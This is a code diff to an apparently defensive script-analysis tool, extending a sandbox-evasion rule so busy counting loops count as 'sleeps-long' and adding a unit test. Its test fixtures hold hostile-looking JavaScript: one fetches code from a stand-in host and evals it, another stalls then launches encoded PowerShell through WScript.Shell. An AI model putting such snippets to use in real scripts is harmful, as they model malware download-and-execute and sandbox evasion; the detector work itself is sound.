@@ -174,7 +174,7 @@ fn evasion(trace: &Trace, findings: &mut Findings) {
         ),
         (
             "sleeps-long",
-            &["sleeps"],
+            &["sleeps", "waits by counting"],
             Severity::Low,
             "The script waits for long, as those do that outwait sandboxes",
             &["T1497.003"],
@@ -349,6 +349,14 @@ pub mod tests {
         let script =
             "var x = new XMLHttpRequest(); x.open('GET', 'http://a.example/b', false); x.send(); eval(x.responseText);";
         assert!(found(script, "a.js").contains(&"runs-fetched-code High T1105,T1059".to_owned()));
+    }
+
+    #[test]
+    fn counting_until_there_are_no_steps_is_waiting() {
+        let stall = "for(var i=0;i<30000000;i++){} new ActiveXObject('WScript.Shell').Run('powershell -enc AAAA');";
+        let told = found(stall, "a.js");
+        assert!(told.contains(&"sleeps-long Low T1497.003".to_owned()), "{told:?}");
+        assert!(!found("for (;;) {}", "a.js").iter().any(|it| it.starts_with("sleeps-long")));
     }
 
     #[test]
